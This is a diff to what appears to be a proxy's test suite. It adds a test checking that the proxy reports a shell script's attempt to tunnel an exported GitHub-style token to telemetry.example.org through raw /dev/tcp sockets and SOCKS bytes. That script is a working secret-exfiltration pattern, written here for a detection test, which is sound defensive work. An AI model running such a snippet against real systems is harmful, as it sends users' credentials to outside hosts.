@@ -39,6 +39,31 @@ def test_a_published_sample_is_answered_in_ones_own_shell():
     assert "127.0.0.1/v1/chat/completions 400  nearest is " in second
 
 
+BESIDE = r"""
+place=${https_proxy#http://}; host=${place%:*} port=${place#*:}
+exec 3<>"/dev/tcp/$host/$port"
+printf 'CONNECT telemetry.example.org:443 HTTP/1.1\r\nHost: t\r\nX-For: %s\r\n\r\n' "$KEY" >&3
+read -r _ <&3; exec 3>&-
+exec 3<>"/dev/tcp/$host/$port"
+printf '\5\1\0' >&3; read -r _ <&3; exec 3>&-
+curl -s -o /dev/null https://models.inference.ai.azure.com/chat/completions -d '{}'
+"""
+
+
+def test_what_comes_beside_requests_is_told():
+    key = "github_pat_0123456789abcdef"
+    with served(GITHUB_TOKEN=key) as serving:
+        in_shell(serving, f"export KEY={key}\n{BESIDE}")
+        code, said = serving.stop()
+    assert code == 0, said
+    tunnel, socks, request = said.splitlines()
+    assert " CONNECT telemetry.example.org:443  no request came" in tunnel
+    assert "the token shows in the request for a tunnel" in tunnel
+    assert "3 bytes that are no whole request" in socks
+    assert " POST models.inference.ai.azure.com/chat/completions 400 " in request
+    assert key not in said
+
+
 def test_a_tier_is_enforced():
     with served("--responder", "echo", "--limits", "high") as serving:
         body = '{"messages": [{"role": "user", "content": "Hi"}]}'
